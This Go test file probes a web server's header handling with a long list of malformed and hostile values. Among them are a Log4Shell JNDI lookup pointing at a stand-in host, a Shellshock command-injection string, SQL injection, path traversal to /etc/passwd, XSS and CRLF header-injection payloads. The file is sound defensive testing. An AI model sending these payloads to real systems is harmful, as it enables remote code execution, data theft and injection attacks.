package badinput_test

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// TestHeadersThatMeanNothingTroubleNobody puts odd values into every header that is read.
func TestHeadersThatMeanNothingTroubleNobody(t *testing.T) {
	s := serve(t)
	long := strings.Repeat("a", 40_000)
	values := []string{"", " ", "\x7f", "\xff\xfe", "ünï", "null", "undefined", "0", "-1", "99999999999999999999", "*", ",", ",,,,", ";", "=", `"`, `W/"`, "../../etc/passwd", "' OR 1=1 --",
		"${jndi:ldap://a.example/x}", "() { :;}; id", "<script>alert(1)</script>", "%0d%0aX-Evil: 1", stranger, long, strings.Repeat(",", 40_000), strings.Repeat("a=b; ", 8_000),
		"http://", "http://[::1", "https://a.example:99999", "file:///etc/passwd", "javascript:alert(1)", "bytes=0-", "bytes=-1", "bytes=9-1", "bytes=" + strings.Repeat("0-0,", 9_000) + "0-0",
		"Bearer", "Bearer ", "Bearer a.b.c", "Bearer " + long, "Basic OjE=", "gzip", "br;q=nan", "text/event-stream", "text/event-stream;q=0", "Mon, 99 Foo 2026 99:99:99 GMT",
		"for=\"[::1]:4711\";proto=https", "127.0.0.1", "::1, 127.0.0.1", "unix:@"}
	for _, name := range []string{"Accept", "Accept-Encoding", "Accept-Language", "Authorization", "Cache-Control", "Connection", "Cookie", "Forwarded", "If-Match", "If-Modified-Since",
		"If-None-Match", "If-Range", "If-Unmodified-Since", "Last-Event-ID", "Origin", "Pragma", "Range", "Referer", "Sec-Fetch-Site", "Upgrade", "User-Agent", "X-API-KEY",
		"X-Entity-Id", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-HTTP-Method-Override", "X-Real-IP", "X-Request-Id", "Access-Control-Request-Headers", "Traceparent"} {
		for _, value := range values {
			for _, path := range []string{"/api/agents", "/"} {
				s.withHeader(path, name, value)
			}
		}
	}
}

// withHeader sends a request with one odd header: it must be answered as ever, or refused
// for what is wrong with it.
func (s *server) withHeader(path, name, value string) {
	s.t.Helper()
	r, err := http.NewRequestWithContext(s.t.Context(), http.MethodGet, s.url+path, http.NoBody)
	if err != nil {
		s.t.Fatal(err)
	}
	r.Header[name] = []string{value}
	w, err := s.http.Do(r)
	if err != nil {
		if !strings.Contains(err.Error(), "invalid header field value") && !strings.Contains(err.Error(), "malformed HTTP") {
			s.t.Errorf("%s: %.60q to %s: %v", name, value, path, err)
		}
		return
	}
	defer func() { _ = w.Body.Close() }()
	a := answer{status: w.StatusCode, kind: w.Header.Get("Content-Type")}
	if a.body, err = io.ReadAll(io.LimitReader(w.Body, 1<<20)); err != nil {
		s.t.Errorf("%s: %.60q to %s: %v", name, value, path, err)
	}
	if w.Header.Get("X-Evil") != "" || a.status >= 500 || path == "/" && a.status >= 300 && a.status != 304 && a.status != 412 && a.status != 416 {
		s.t.Errorf("%s: %.60q to %s: %s", name, value, path, a)
	}
	if strings.HasPrefix(path, "/api") {
		if _, err := a.read(false); err != nil {
			s.t.Errorf("%s: %.60q to %s: %v", name, value, path, err)
		}
	}
}
